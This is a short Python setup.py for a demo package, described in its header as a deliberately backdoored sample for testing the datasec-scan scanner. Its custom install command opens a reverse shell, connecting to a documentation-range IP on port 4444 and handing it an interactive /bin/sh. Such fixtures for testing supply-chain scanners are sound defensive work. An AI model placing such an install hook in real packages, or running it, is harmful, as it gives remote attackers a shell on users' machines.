# A deliberately backdoored demo package for trying datasec-scan. It is never run by anything here:
# hosts are reserved documentation addresses (203.0.113.0/24, example.com) and keys are documented fakes.
import base64
import os
import socket
import subprocess

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.7", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        subprocess.call(["/bin/sh", "-i"])


setup(name="demo-pkg", version="0.1", packages=["demo_pkg"], cmdclass={"install": PostInstall})
